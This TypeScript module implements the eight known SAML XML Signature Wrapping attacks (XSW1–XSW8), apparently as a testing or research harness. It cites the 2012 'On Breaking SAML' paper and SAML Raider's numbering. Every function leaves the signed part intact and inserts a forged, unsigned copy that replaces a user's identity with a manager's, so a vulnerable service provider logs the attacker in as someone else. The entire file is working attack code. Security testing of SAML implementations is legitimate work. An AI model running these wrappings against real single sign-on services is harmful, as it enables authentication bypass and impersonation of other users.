import { takeSignature } from './saml-forger.ts'

/** The assertion element in an XML text. */
const assertionOf = (xml: string) => /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? ''

/** A copy of a part that names another person, without its signature. */
const evil = (xml: string, id: string) =>
  takeSignature(xml)
    .rest.replace(/ID="_(response|assertion)"/, `ID="${id}"`)
    .replaceAll('user@test.example', 'manager@test.example')
    .replaceAll('name-of-user', 'name-of-manager')

const inside = (signature: string, part: string) => signature.replace('</Signature>', `${part}</Signature>`)
const object = (part: string) => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${part}</Object>`

/** Places a signature after the issuer of the outer element. */
const placed = (xml: string, signature: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)

/**
 * The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012), in the
 * numbering of SAML Raider. Each takes a response that is signed itself (1, 2) or has a signed assertion, and leaves what
 * was signed intact, but where programs look for the person it puts another one.
 */
export const wrappings: Readonly<
  Record<string, { signed: 'Response' | 'Assertion'; wrap(xml: string): string }>
> = {
  'XSW1: another response around the signature, the signed one inside of it': {
    signed: 'Response',
    wrap: (xml) => {
      const { signature, rest } = takeSignature(xml)
      return placed(evil(xml, '_evil').replace('_assertion', '_evil2'), inside(signature, rest))
    },
  },
  'XSW2: another response around the signature, the signed one before it': {
    signed: 'Response',
    wrap: (xml) => {
      const { signature, rest } = takeSignature(xml)
      return placed(evil(xml, '_evil').replace('_assertion', '_evil2'), `${rest}${signature}`)
    },
  },
  'XSW3: another assertion before the signed one': {
    signed: 'Assertion',
    wrap: (xml) => xml.replace(assertionOf(xml), `${evil(assertionOf(xml), '_evil')}${assertionOf(xml)}`),
  },
  'XSW4: another assertion around the signed one': {
    signed: 'Assertion',
    wrap: (xml) => {
      const signed = assertionOf(xml)
      const around = evil(signed, '_evil').replace('</saml:Assertion>', `${signed}</saml:Assertion>`)
      return xml.replace(signed, around)
    },
  },
  'XSW5: the signature in another assertion, the signed one after it': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = takeSignature(assertionOf(xml))
      return xml.replace(assertionOf(xml), `${placed(evil(rest, '_evil'), signature)}${rest}`)
    },
  },
  'XSW6: the signature in another assertion, the signed one inside of it': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = takeSignature(assertionOf(xml))
      return xml.replace(assertionOf(xml), placed(evil(rest, '_evil'), inside(signature, rest)))
    },
  },
  'XSW7: another assertion in extensions before the signed one': {
    signed: 'Assertion',
    wrap: (xml) =>
      xml.replace(
        '<samlp:Status>',
        `<samlp:Extensions>${evil(assertionOf(xml), '_evil')}</samlp:Extensions><samlp:Status>`,
      ),
  },
  'XSW8: the signed assertion in an object of the signature of another one': {
    signed: 'Assertion',
    wrap: (xml) => {
      const { signature, rest } = takeSignature(assertionOf(xml))
      return xml.replace(assertionOf(xml), placed(evil(rest, '_evil'), inside(signature, object(rest))))
    },
  },
}
